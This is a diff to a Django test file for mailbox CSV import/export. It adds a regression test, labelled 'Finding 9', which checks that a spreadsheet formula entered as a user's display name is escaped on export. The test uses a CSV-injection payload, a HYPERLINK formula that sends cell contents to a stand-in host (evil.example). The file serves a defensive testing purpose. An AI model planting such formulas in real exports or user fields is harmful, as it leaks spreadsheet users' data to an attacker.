@@ -1,15 +1,20 @@
 """Mailbox CSV import and export: every row checked, every bad line reported, all or nothing."""
 
+import csv
+
 import pytest
 from django.contrib.auth import authenticate
 from django.contrib.auth.hashers import get_hasher, identify_hasher
+from django.test import Client
 
 from accounts.hashers import DockspaceArgon2PasswordHasher
+from accounts.mail_hashes import mail_hash, verify_mail_hash
 from accounts.models import AuditEvent, User
+from accounts.tests.factories import PASSWORD
 from mail import csv_io, services
 from mail.csv_io import CsvImportError, mailboxes_export_csv, mailboxes_import_csv
 from mail.models import Mailbox, Tier
-from mail.passwords import mail_hash, verify_mail_hash
+from mail.tests.factories import make_mailbox, run
 
 ACTOR = "test import"
 GIB = 1024**3
@@ -369,3 +374,30 @@ def test_an_export_imports_back_the_same_mailboxes_into_a_fresh_domain(tmp_path,
 
     assert result.created == 2
     assert list(Mailbox.objects.values_list("address", "person__full_name", "quota", "state")) == before
+
+
+# Finding 9: the export neutralises a cell a spreadsheet would evaluate (dockspace.csv_cells).
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+
+
+def read_rows(path):
+    with open(path, newline="", encoding="utf-8") as f:
+        return list(csv.reader(f))
+
+
+@pytest.mark.django_db
+def test_mailbox_export_neutralises_a_formula_chosen_as_a_self_service_name(tmp_path):
+    mallory = make_mailbox("mallory@example.com", password=PASSWORD)
+    make_mailbox("ann@example.com", full_name="Ann Lee")
+    browser = Client()
+    browser.post("/login/", {"email": "mallory@example.com", "password": PASSWORD})
+    assert browser.post("/profile/edit/", {"full_name": FORMULA}).status_code == 302
+    mallory.person.refresh_from_db()
+    assert mallory.person.full_name == FORMULA  # the name itself is stored as typed
+
+    path = tmp_path / "people.csv"
+    run("mailbox", "export", "--csv", str(path))
+
+    rows = {row[0]: row for row in read_rows(path)[1:]}
+    assert rows["mallory@example.com"][1] == "'" + FORMULA
+    assert rows["ann@example.com"][1] == "Ann Lee"  # positive control: ordinary names unchanged
